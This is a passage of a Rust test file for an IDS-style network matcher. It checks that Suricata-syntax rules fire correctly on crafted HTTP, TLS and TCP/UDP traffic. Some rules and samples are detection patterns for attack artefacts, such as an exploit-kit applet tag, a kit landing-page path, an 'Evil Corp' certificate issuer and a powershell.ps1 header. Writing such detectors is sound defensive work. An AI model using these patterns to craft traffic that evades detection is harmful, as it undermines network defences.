        r#"alert http any any -> any any (http.uri; content:"/a"; isdataat:2,relative; sid:1;)
alert http any any -> any any (http.uri; content:"/a"; isdataat:!1,relative; sid:2;)
alert http any any -> any any (http.uri; content:"/"; isdataat:5; sid:3;)
alert http any any -> any any (http.uri; content:"/"; urilen:<4; sid:4;)
alert http any any -> any any (http.uri; content:"/"; urilen:3<>6,raw; sid:5;)"#,
    );
    let get = |uri: &str| format!("GET {uri} HTTP/1.1\r\nHost: a\r\n\r\n").into_bytes();
    assert_eq!(sids(&m, &http(&get("/a"))), vec![2, 4]);
    assert_eq!(sids(&m, &http(&get("/abcd"))), vec![1, 5]);
    assert_eq!(sids(&m, &http(&get("/abcdef"))), vec![1, 3]);
}

/// A rule whose first buffer holds only a negation matches when that
/// buffer is too short to hold the negated content, and is shown where its
/// content matched, in the next buffer.
#[test]
fn a_match_is_shown_where_a_content_matched_not_at_a_negation() {
    let m = matcher(
        r#"alert http any any -> any any (http.uri; content:!"safe"; http.user_agent; content:"evil"; sid:1;)"#,
    );
    let req = b"GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: an evil one\r\n\r\n";
    let found = m.matches(&http(req));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!((found[0].buffer, found[0].offset), ("http.user_agent", 3));
    assert!(found[0].excerpt.contains("evil"), "{found:?}");
}

/// A negation is judged only where the buffer is whole: in a request cut
/// short, what is missing may hold the negated content (Suricata waits
/// for the whole request; the stream's run brings it here).
#[test]
fn a_negation_is_not_judged_past_the_end_of_a_request_cut_short() {
    let m = matcher(
        r#"alert http any any -> any any (http.uri.raw; content:"/a"; content:!"/c/"; distance:4; sid:1;)
alert http any any -> any any (http.uri.raw; content:"/a"; pcre:!"/safe/"; sid:2;)"#,
    );
    assert_eq!(sids(&m, &http(b"GET /a")), Vec::<u32>::new(), "cut short");
    assert_eq!(
        sids(&m, &http(b"GET /a/b/../c/x HTTP/1.0\r\n\r\n")),
        vec![2],
        "`/c/` past the distance"
    );
    assert_eq!(sids(&m, &http(b"GET /a/b/x HTTP/1.0\r\n\r\n")), vec![1, 2]);
}

#[test]
fn raw_tcp_and_udp_flow_is_the_flow_tables() {
    use nta_common::maps::sample_flow::{ESTABLISHED, TO_CLIENT, TO_SERVER};
    let m = matcher(
        r#"alert tcp any any -> any any (content:"SMB"; flow:established,to_server; sid:1;)
alert tcp any any -> any any (content:"SMB"; flow:to_client; sid:2;)
alert tcp any any -> any any (content:"SMB"; flow:not_established; sid:3;)
alert tcp any any -> any any (content:"SMB"; sid:4;)
alert udp any any -> any any (content:"SMB"; flow:established,to_client; sid:5;)"#,
    );
    let with = |mut pkt: Inspected<'static>, flow: u8| {
        pkt.flow = flow;
        pkt
    };
    let seg = |flow| with(tcp(CLIENT, SERVER, b"\xffSMB"), flow);
    assert_eq!(sids(&m, &seg(TO_SERVER | ESTABLISHED)), [1, 4]);
    assert_eq!(sids(&m, &seg(TO_CLIENT | ESTABLISHED)), [2, 4]);
    // Mid-stream: the way is known, the handshake was not seen.
    assert_eq!(sids(&m, &seg(TO_SERVER)), [3, 4]);
    // No flow entry: only the rule that asks nothing of the flow.
    assert_eq!(sids(&m, &seg(0)), [4]);
    let dgram = |flow| with(udp(SERVER, CLIENT, b"SMB"), flow);
    assert_eq!(sids(&m, &dgram(TO_CLIENT | ESTABLISHED)), [5]);
    assert_eq!(sids(&m, &dgram(TO_CLIENT)), Vec::<u32>::new());
}

#[test]
fn certificate_rules_match_the_servers_flight_not_the_clients_hello() {
    use crate::payload::{tls::tests::client_hello, tls_server::tests as certs};
    let m = matcher(
        r#"alert tls any any -> any any (flow:established,to_client; tls.cert_subject; content:"CN=*.qbix.com"; nocase; endswith; sid:1;)
alert tls any any -> any any (tls.cert_issuer; content:"O=Evil Corp"; sid:2;)
alert tls any any -> any any (tls.cert_serial; content:"0A:1B:FE"; sid:3;)
alert tls any any -> any any (tls.certs; content:"Evil Corp"; content:!"Good Corp"; sid:4;)
alert tls any any -> any any (flow:to_server; tls.sni; content:"qbix.com"; sid:5;)"#,
    );
    let leaf = certs::certificate("*.QBIX.com", "Evil Corp", &[0x0a, 0x1b, 0xfe]);
    let flight = certs::server_flight(&[&leaf]);
    let from_server = tcp(SERVER, CLIENT, &flight);
    assert_eq!(sids(&m, &from_server), [1, 2, 3, 4]);
    let hello = client_hello("cdn.qbix.com", &[]);
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, &hello)), [5]);
    // Cut inside the certificate: a negation is not judged on what was
    // not seen, so the rule that needs one does not match.
    let at = flight
        .windows(9)
        .rposition(|w| w == b"Evil Corp")
        .expect("the subject's organisation");
    let cut = tcp(SERVER, CLIENT, &flight[..at + 9]);
    assert!(!sids(&m, &cut).contains(&4), "{:?}", sids(&m, &cut));
    let other = certs::server_flight(&[&certs::certificate(
        "www.example.org",
        "Good Corp",
        &[0x0a, 0x1b],
    )]);
    assert_eq!(sids(&m, &tcp(SERVER, CLIENT, &other)), Vec::<u32>::new());
}

#[test]
fn byte_test_and_byte_jump_are_steps_between_contents() {
    let m = matcher(
        r#"alert tcp any any -> any any (content:"LEN"; byte_test:1,&,0x80,0,relative; byte_jump:2,1,relative,little; content:"END"; within:3; sid:1;)
alert tcp any any -> any any (content:"LEN"; byte_test:2,>,1000,1,relative,little; sid:2;)"#,
    );
    // "LEN", a flag byte, a 2-byte little-endian length (4), four bytes,
    // then "END" right after them.
    let good = b"xxLEN\x80\x04\x00abcdEND";
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, good)), [1]);
    let flag_clear = b"xxLEN\x00\x04\x00abcdEND";
    assert_eq!(
        sids(&m, &tcp(CLIENT, SERVER, flag_clear)),
        Vec::<u32>::new()
    );
    // The length points one byte short of "END".
    let short = b"xxLEN\x80\x03\x00abcdEND";
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, short)), Vec::<u32>::new());
    let long = b"LEN\x00\xe9\x03";
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, long)), [2]);
}

fn from_server(payload: &[u8]) -> Inspected<'_> {
    tcp(SERVER, CLIENT, payload)
}

/// `file_data` on the way to the client is the response's body: the rule
/// fires on the server's answer, not on a request carrying the same bytes.
#[test]
fn a_to_client_file_data_rule_matches_the_response_not_a_request_with_the_same_bytes() {
    let m = matcher(
        r#"alert http any any -> any any (flow:established,to_client; file_data; content:"<applet code=|22|Exploit"; nocase; sid:1;)
alert http any any -> any any (flow:established,to_server; file_data; content:"<applet code=|22|Exploit"; nocase; sid:2;)"#,
    );
    let body = b"<html><APPLET code=\"Exploit.class\"></applet></html>";
    let response = [
        &b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 49\r\n\r\n"[..],
        body,
    ]
    .concat();
    let request = [
        &b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 49\r\n\r\n"[..],
        body,
    ]
    .concat();
    let found = m.matches(&from_server(&response));
    assert_eq!(found.iter().map(|m| m.sid).collect::<Vec<_>>(), vec![1]);
    assert_eq!((found[0].buffer, found[0].offset), ("file.data", 6));
    assert_eq!(sids(&m, &http(&request)), vec![2]);
    // The same bytes outside any HTTP message are neither.
    assert_eq!(sids(&m, &from_server(body)), Vec::<u32>::new());
}

/// The response's buffers, as Suricata builds them; the buffers both
/// messages have (headers, cookies, version) are the response's here.
#[test]
fn the_http_response_buffers_are_matched() {
    let m = matcher(
        r#"alert http any any -> any any (http.stat_code; content:"302"; bsize:3; sid:1;)
alert http any any -> any any (http.stat_msg; content:"Found"; startswith; endswith; sid:2;)
alert http any any -> any any (http.response_line; content:"HTTP/1.0 302 Found"; startswith; endswith; sid:3;)
alert http any any -> any any (http.server; content:"Apache/2.4"; startswith; sid:4;)
alert http any any -> any any (http.location; content:"/kit/land.php"; sid:5;)
alert http any any -> any any (flow:to_client; http.cookie; content:"track=1"; sid:6;)
alert http any any -> any any (flow:to_client; http.header; content:"Server: Apache"; sid:7;)
alert http any any -> any any (flow:to_client; http.protocol; content:"HTTP/1.0"; bsize:8; sid:8;)
alert http any any -> any any (flow:to_client; http.response_body; content:"moved here"; sid:9;)
alert http any any -> any any (flow:to_server; http.header; content:"Server: Apache"; sid:10;)
alert http any any -> any any (http.stat_code; content:"200"; sid:11;)"#,
    );
    let response = b"HTTP/1.0 302 Found\r\nServer: Apache/2.4.58\r\nLocation: http://a.example/kit/land.php\r\n\
Set-Cookie: track=1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nmoved\r\n5\r\n here\r\n0\r\n\r\n";
    assert_eq!(
        sids(&m, &from_server(response)),
        (1..=9).collect::<Vec<_>>()
    );
    // A request has none of the response's own buffers.
    let request = b"GET /kit/land.php HTTP/1.0\r\nServer: Apache/2.4\r\nCookie: track=1\r\n\r\n";
    assert_eq!(sids(&m, &http(request)), vec![10]);
}

/// Only the body's first bytes are sampled: a negated content there is
/// judged when `Content-Length` says the whole body is in the sample.
#[test]
fn a_negation_in_a_body_is_judged_only_when_the_whole_body_was_sampled() {
    let m = matcher(
        r#"alert http any any -> any any (flow:to_client; file_data; content:"<script"; content:!"nonce="; distance:0; sid:1;)"#,
    );
    let whole = b"HTTP/1.1 200 OK\r\nContent-Length: 17\r\n\r\n<script src=x.js>";
    assert_eq!(sids(&m, &from_server(whole)), vec![1]);
    let longer = b"HTTP/1.1 200 OK\r\nContent-Length: 9000\r\n\r\n<script src=x.js>";
    assert_eq!(sids(&m, &from_server(longer)), Vec::<u32>::new());
    let unknown = b"HTTP/1.1 200 OK\r\n\r\n<script src=x.js>";
    assert_eq!(sids(&m, &from_server(unknown)), Vec::<u32>::new());
}

/// The default rules' header checks are for what clients send: a server
/// offering `powershell.ps1` for download raises nothing, the same header
/// in a request does.
#[test]
fn default_header_rules_look_at_requests_not_responses() {
    let m = defaults();
    let response =
        b"HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename=powershell.ps1\r\n\r\n";
    assert_eq!(sids(&m, &from_server(response)), Vec::<u32>::new());
    let request = b"GET / HTTP/1.1\r\nX-Run: powershell.ps1\r\n\r\n";
    assert_eq!(sids(&m, &http(request)), vec![1_000_006]);
}

#[test]
fn tcp_pkt_rules_look_at_segments_and_tcp_stream_rules_at_streams() {
    let m = matcher(
        r#"alert tcp any any -> any any (content:"EVIL"; sid:1;)
alert tcp-stream any any -> any any (content:"EVIL"; sid:2;)
alert tcp-pkt any any -> any any (content:"EVIL"; sid:3;)"#,
    );
    // A segment carries its size; the stream's bytes put in order do not.
    let segment = Inspected {
        dsize: Some(8),
        ..tcp(CLIENT, SERVER, b"an EVIL")
    };
    assert_eq!(sids(&m, &segment), [1, 3]);
    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, b"an EVIL")), [1, 2]);
    assert_eq!(m.rules()[1].scope, crate::payload::rules::Scope::Stream);
}
